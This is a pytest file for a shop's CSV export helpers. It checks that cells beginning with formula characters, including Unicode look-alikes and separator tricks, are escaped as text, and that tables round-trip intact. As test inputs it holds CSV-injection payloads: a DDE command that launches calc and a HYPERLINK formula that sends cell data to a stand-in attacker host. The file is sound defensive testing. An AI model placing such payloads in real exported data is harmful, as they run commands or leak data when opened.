"""CSV that a spreadsheet opens without executing anything, and reads as it was written."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from shop.spreadsheet import csv_lines, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example/?"&A1)',
        "\tplain",
        "\rplain",
        "  =1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x00=1+1",
        "'=1+1",
        '"=1+1',
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        "﹦1+1",
        "﹣1+1",
    ],
)
def test_a_formula_stays_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("Ada;=1+1", "Ada;'=1+1"),
        ("Ada\t=1+1", "Ada\t'=1+1"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("Ada\r\n-1+1", "Ada\r\n'-1+1"),
        ('Ada;"=1+1', "Ada;'\"=1+1"),
    ],
)
def test_a_cell_that_another_separator_would_cut_in_two_stays_safe(text: str, safe: str) -> None:
    assert safe_cell(text) == safe


@pytest.mark.parametrize("text", ["", "Ada Lovelace", "O'Neill", "1 = 1", "a-b", "me@example.com", "Straße, 1 + 2; 3"])
def test_other_words_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E+3"), "1000"),
        (-3, "-3"),
        (0, "0"),
        (True, "1"),
        (False, "0"),
        (None, ""),
    ],
)
def test_numbers_stay_numbers_with_a_dot(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_a_table_is_read_back_as_it_was_written() -> None:
    rows = [['say "no"', "two\r\nlines", "a,b", Decimal("1.50")], ["Çay", "", None, 2]]
    data = b"".join(csv_lines(["A", "B", "C", "=D"], rows))
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 4  # three lines and the one in a cell
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))) == [
        ["A", "B", "C", "'=D"],
        ['say "no"', "two\r\nlines", "a,b", "1.50"],
        ["Çay", "", "", "2"],
    ]
